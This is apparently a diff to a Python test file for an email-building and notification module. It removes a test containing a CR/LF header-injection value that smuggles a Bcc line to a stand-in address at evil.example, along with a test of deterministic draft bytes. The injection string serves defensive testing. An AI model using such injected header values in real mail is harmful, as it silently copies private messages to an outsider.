@@ -1,5 +1,4 @@
-"""Building messages: every one is checked before any is sent, and assembled just before its
-hand-over; addresses are parsed once per mailing, and still checked for each message."""
+"""Building one message: addresses are parsed once per mailing, and still checked each time."""
 
 from __future__ import annotations
 
@@ -7,14 +6,8 @@ from datetime import UTC, datetime
 
 import pytest
 
-from sharebatch.delivery.message import Content, Letter, build_message, draft_message
-from sharebatch.delivery.notify import notify
-from sharebatch.delivery.smtp import Retry
+from sharebatch.delivery.message import Content, Letter, build_message
 from sharebatch.errors import LinkError
-from sharebatch.models import NotifySettings
-from tests.support.delivery_run import delivery_run, settings
-from tests.support.quarterly import QuarterlyRun
-from tests.support.smtp import Server
 
 NOW = datetime(2026, 12, 2, 12, 0, tzinfo=UTC)
 
@@ -55,36 +48,3 @@ def test_messages_sharing_a_sender_each_get_their_own_recipient() -> None:
         "initech@partners.example",
     ]
     assert {str(m["From"]) for m in built} == {"Acme Reports <reports@acme.example>"}
-
-
-def test_a_bad_header_of_the_last_recipient_stops_everything_unsent(
-    quarterly: QuarterlyRun, smtp: Server
-) -> None:
-    """Messages are assembled one by one as they go out, but all are checked first: a bad
-    header only the last recipient has (CR/LF) stops the notify, exit 2, with nothing sent."""
-
-    def per_recipient(job: str, recipient: str) -> NotifySettings:
-        bad = {"subject": "Q3\r\nBcc: thief@evil.example"} if recipient == "initech" else {}
-        return settings(smtp.port, **bad)
-
-    run = delivery_run(quarterly, per_recipient)
-    assert [e.recipient for e in run.plan.entries][-1] == "initech"
-    with pytest.raises(LinkError, match="q3/initech: subject: holds") as caught:
-        notify(run.run_dir, retry=Retry(tries=1))
-    assert caught.value.exit_code == 2
-    assert smtp.mailbox.messages == []
-
-
-def test_a_draft_assembles_the_same_bytes_each_time() -> None:
-    """The Message-ID, boundary and Date come from the letter and the moment, so a draft
-    assembled twice (a dry run's .eml, then the send) gives the same bytes."""
-    one = letter("globex")
-    draft = draft_message(one, Content(page_url="https://example.invalid/p"), one.addresses, NOW)
-    assert draft.message().as_bytes() == draft.message().as_bytes()
-    assert (
-        draft.message().as_bytes()
-        == build_message(
-            one, Content(page_url="https://example.invalid/p"), one.addresses, NOW
-        ).as_bytes()
-    )
-    assert draft.message_id in draft.message().as_bytes().decode("ascii")
